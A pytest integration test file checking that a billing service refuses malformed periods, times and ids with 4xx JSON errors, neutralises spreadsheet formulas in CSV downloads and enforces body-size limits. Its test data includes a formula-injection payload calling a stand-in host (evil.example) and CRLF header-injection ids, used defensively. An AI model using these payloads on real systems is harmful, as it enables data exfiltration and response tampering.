"""Bad periods, times and ids over real HTTP against the real billing service and database: each
gets a 4xx with the JSON error body, none a 500; downloads carry safe names and no formulas (issue 15).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest

from tests.fixtures.billing import billing_process, hourly, produce_hourly
from tests.fixtures.processes import ServiceProcess, wait_until

ADMIN = {"Authorization": "Bearer adm-token"}
PROJECT = {"Authorization": "Bearer llm-token"}
TOKENS = "adm-token=admin,llm-token=project:hkgai-llm"
HOSTILE_PROJECT = '=HYPERLINK("evil.example?q="&A1,"x")'
SAFE_NAME_CHARS = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789._-")

BAD_PERIODS = ["0001-01", "9999-12", "0000-00", "2026-13", "2026-11\n", "1999-12", "3000-01", ""]
BAD_TIMES = [
    "0001-01-01T00:00:00+01:00",  # year 0 in UTC
    "9999-12-31T23:59:59-01:00",  # year 10000 in UTC
    "9999-12-31T23:59:59+00:00",  # year 10000 in Asia/Hong_Kong
    "0001-01-01T00:00:00Z",
    "1969-12-31T23:59:59Z",
    "3000-01-01T00:00:01Z",
    "0.5",  # pydantic alone reads numbers as Unix seconds
    "99999999999999999999",
    "2026-11-01",
]
BAD_PROJECT_IDS = ["a|b", "p\n", "p\r\nX-Injected: 1", "p\x00", "caf\u00e9", "p" * 257]
BAD_INVOICE_IDS = [
    "INV-nope",
    "INV-2026-13-hkgai-llm",
    "INV-0001-01-hkgai-llm",
    "INV-9999-12-hkgai-llm",
    "INV-2026-11-hkgai-llm\n",
    'INV-2026-11-a"\r\nX-Injected: 1',
    "INV-2026-11-p\x00",
]


def segment(text: str) -> str:
    return quote(text, safe="")


def assert_refused(response: httpx.Response, error: str | None = None) -> dict:
    assert 400 <= response.status_code < 500, (response.request.url, response.text)
    body = response.json()
    assert set(body) == {"error", "detail"}, body
    assert isinstance(body["error"], str) and body["detail"], body
    if error is not None:
        assert body["error"] == error, (response.request.url, body)
    assert "x-injected" not in response.headers
    return body


@pytest.fixture
def billing(
    database_url: str,
    bootstrap_servers: str,
    topic_prefix: str,
    http_port: int,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[tuple[httpx.Client, ServiceProcess]]:
    service = billing_process(
        bootstrap_servers,
        database_url,
        topic_prefix,
        http_port,
        tmp_path / "billing.log",
        monkeypatch,
        hourly_partitions=2,
        API_TOKENS=TOKENS,
    ).start()
    client = httpx.Client(base_url=f"http://127.0.0.1:{http_port}", timeout=10)
    yield client, service
    client.close()
    service.stop()


def test_every_bad_period_time_and_id_gets_a_4xx_with_the_error_body_and_none_a_500(
    billing: tuple[httpx.Client, ServiceProcess],
) -> None:
    client, service = billing
    # Given the real service with its catalog; when each bad period reaches each edge taking one
    for period in BAD_PERIODS:
        query = {"period": period}
        for path in ("/v1/invoices", "/v1/subsidy/report", "/v1/exports/focus"):
            body = assert_refused(client.get(path, params=query, headers=ADMIN), "invalid_period")
            assert "YYYY-MM, year 2000 to 2999" in body["detail"]
        assert_refused(client.get("/dashboard/api/centre", params=query, headers=ADMIN))
        if period:  # an empty path segment is another route's 404
            in_path = segment(period)
            assert_refused(
                client.post(f"/v1/periods/{in_path}/finalize", headers=ADMIN), "invalid_period"
            )
            assert_refused(
                client.get(f"/v1/periods/{in_path}/completeness", headers=ADMIN), "invalid_period"
            )
    # and each time out of range, on either side of the usage query
    for moment in BAD_TIMES:
        for name in ("from", "to"):
            body = assert_refused(
                client.get("/v1/projects/hkgai-llm/usage", params={name: moment}, headers=PROJECT)
            )
            assert body["error"] in ("invalid_time", "invalid_request"), body
    assert_refused(
        client.get(
            "/v1/projects/hkgai-llm/usage",
            params={"from": "2026-11-02T00:00:00Z", "to": "2026-11-01T00:00:00Z"},
            headers=PROJECT,
        ),
        "invalid_range",
    )
    # and each project id a sample could not carry
    for project_id in BAD_PROJECT_IDS:
        assert_refused(
            client.get(f"/v1/projects/{segment(project_id)}/usage", headers=ADMIN),
            "invalid_project_id",
        )
        assert_refused(
            client.get(
                "/v1/invoices",
                params={"period": "2026-11", "project_id": project_id},
                headers=ADMIN,
            ),
            "invalid_project_id",
        )
    # and each invoice id that can name no invoice, as JSON, CSV and PDF
    for invoice_id in BAD_INVOICE_IDS:
        for suffix in ("", ".csv"):
            assert_refused(
                client.get(f"/v1/invoices/{segment(invoice_id)}{suffix}", headers=ADMIN),
                "not_found",
            )
        assert_refused(client.get(f"/v1/invoices/{segment(invoice_id)}.pdf", headers=ADMIN))
    # Then a project token learns nothing of another project's invoices, existing or not
    for other in ("INV-2026-11-hku-vision-lab", "INV-2026-11-no-such-project"):
        assert_refused(client.get(f"/v1/invoices/{other}", headers=PROJECT), "forbidden")
    # and the good forms still answer, with the bounds of the documented ranges
    assert client.get("/v1/invoices?period=2000-01", headers=ADMIN).status_code == 200
    assert client.get("/v1/exports/focus?period=2999-12", headers=ADMIN).status_code == 200
    edges = {"from": "1970-01-01T00:00:00Z", "to": "3000-01-01T07:59:59+08:00"}
    usage = client.get("/v1/projects/hkgai-llm/usage", params=edges, headers=PROJECT)
    assert usage.status_code == 200, usage.text
    # and the service logged no server error
    assert " 500 " not in service.log_path.read_text(errors="replace")


def test_downloads_carry_safe_file_names_and_no_formulas_from_untrusted_ids(
    billing: tuple[httpx.Client, ServiceProcess], bootstrap_servers: str, topic_prefix: str
) -> None:
    client, service = billing
    # Given usage of a project whose id, from Kafka, is a spreadsheet formula
    hour = dt.datetime(2026, 11, 12, 1, tzinfo=dt.UTC)
    produce_hourly(
        bootstrap_servers,
        f"{topic_prefix}metering.usage.hourly.v1",
        [hourly(HOSTILE_PROJECT, hour, "3600", 1), hourly("hkgai-llm", hour, "7200", 1)],
    )
    invoice_id = f"INV-2026-11-{HOSTILE_PROJECT}"
    wait_until(
        lambda: client.get(f"/v1/invoices/{segment(invoice_id)}", headers=ADMIN).status_code == 200,
        what="the hostile project's invoice",
    )
    wait_until(
        lambda: client.get("/v1/invoices/INV-2026-11-hkgai-llm", headers=ADMIN).status_code == 200,
        what="the subsidised project's invoice",
    )

    # When its invoice and the period are downloaded as CSV
    own = client.get(f"/v1/invoices/{segment(invoice_id)}.csv", headers=ADMIN)
    focus = client.get("/v1/exports/focus", params={"period": "2026-11"}, headers=ADMIN)

    # Then the file names hold only safe characters
    for response in (own, focus):
        assert response.status_code == 200, response.text
        disposition = response.headers["content-disposition"]
        assert disposition.startswith('attachment; filename="') and disposition.endswith('.csv"')
        assert set(disposition.split('"')[1]) <= SAFE_NAME_CHARS, disposition
    assert focus.headers["content-disposition"] == 'attachment; filename="focus-2026-11.csv"'
    # and no cell starts a formula, while the subsidy credit stays a negative number
    for response in (own, focus):
        rows = list(csv.reader(io.StringIO(response.text, newline="")))
        for row in rows[1:]:
            for cell in row:
                assert cell[:1] not in ("=", "+", "@", "\t", "\r"), cell
                assert not cell.startswith("-") or cell.replace(".", "").lstrip("-").isdigit()
    rows = list(csv.DictReader(io.StringIO(focus.text, newline="")))
    assert {row["SubAccountId"] for row in rows} == {"'" + HOSTILE_PROJECT, "hkgai-llm"}
    credits = [row["BilledCost"] for row in rows if row["ChargeCategory"] == "Credit"]
    assert credits and all(credit.startswith("-") for credit in credits), credits
    assert " 500 " not in service.log_path.read_text(errors="replace")


def test_schemathesis_finds_no_server_error_and_no_accepted_invalid_input(
    billing: tuple[httpx.Client, ServiceProcess], tmp_path: Path
) -> None:
    client, service = billing
    # Given the service's own OpenAPI document; when Schemathesis runs every check that holds the
    # service to it (positive_data_acceptance is left out: a schema cannot say that a date-time
    # must lie in 1970..3000 or that 'to' follows 'from'; allow_header_conformance is Starlette's)
    run = subprocess.run(
        [
            sys.executable,
            "-m",
            "schemathesis.cli",
            "run",
            f"{client.base_url}/openapi.json",
            "--checks",
            "all",
            "--exclude-checks",
            "positive_data_acceptance,allow_header_conformance",
            "--max-examples",
            "20",
            "--seed",
            "20261115",
            "--workers",
            "1",  # hypothesis' lambda descriptions are not thread-safe on Python 3.11
            "--header",
            "Authorization: Bearer adm-token",
            "--no-color",
        ],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    # Then every check passes and the service logged no server error
    report = run.stdout[-12000:] + run.stderr[-2000:]
    assert run.returncode == 0, report
    assert " 500 " not in service.log_path.read_text(errors="replace"), report


def raw_request(port: int, head: str, body: bytes = b"") -> str:
    """Send a request's head (and maybe part of a body) on a socket; the status line answered."""
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(head.encode() + b"\r\n" + body)
        answer = b""
        while b"\r\n" not in answer:
            chunk = sock.recv(4096)
            if not chunk:
                break
            answer += chunk
    return answer.split(b"\r\n", 1)[0].decode()


def test_a_body_is_refused_before_it_is_read_without_a_token_and_over_the_size_limit(
    billing: tuple[httpx.Client, ServiceProcess],
) -> None:
    client, service = billing
    port = service.http_port
    assert port is not None

    # Given a PUT announcing a 100 MiB catalog, of which not one byte is sent:
    # without a token, or with an unknown one, it is refused at once
    for authorization in (
        "",
        "Authorization: Bearer not-a-token\r\n",
        "Authorization: Basic eA==\r\n",
    ):
        head = (
            "PUT /v1/catalog HTTP/1.1\r\nHost: billing\r\nContent-Type: application/json\r\n"
            f"{authorization}Content-Length: 104857600\r\n"
        )
        assert raw_request(port, head) == "HTTP/1.1 401 Unauthorized", authorization
    # and with the admin token, it is too large, said before any of it is read
    head = (
        "PUT /v1/catalog HTTP/1.1\r\nHost: billing\r\nContent-Type: application/json\r\n"
        "Authorization: Bearer adm-token\r\nContent-Length: 104857600\r\n"
    )
    assert raw_request(port, head) == "HTTP/1.1 413 Request Entity Too Large"

    # When a body without a Content-Length streams past the limit (4 MiB), it is cut off at it
    def chunks() -> Iterator[bytes]:
        yield b'{"projects": ['
        for _ in range(6 * 1024):
            yield b" " * 1024
        yield b"]}"

    response = client.put("/v1/catalog", headers=ADMIN, content=chunks())
    assert response.status_code == 413, response.text
    assert assert_refused(response, "payload_too_large")["detail"].endswith("4194304 bytes")
    # and the same POST route with a project token is refused for its role, not its body
    response = client.post("/v1/periods/2026-11/finalize", headers=PROJECT)
    assert response.status_code == 403
    # And the service is unharmed: reads answer as before
    assert client.get("/v1/catalog", headers=ADMIN).status_code == 200
    assert client.get("/healthz").status_code == 200
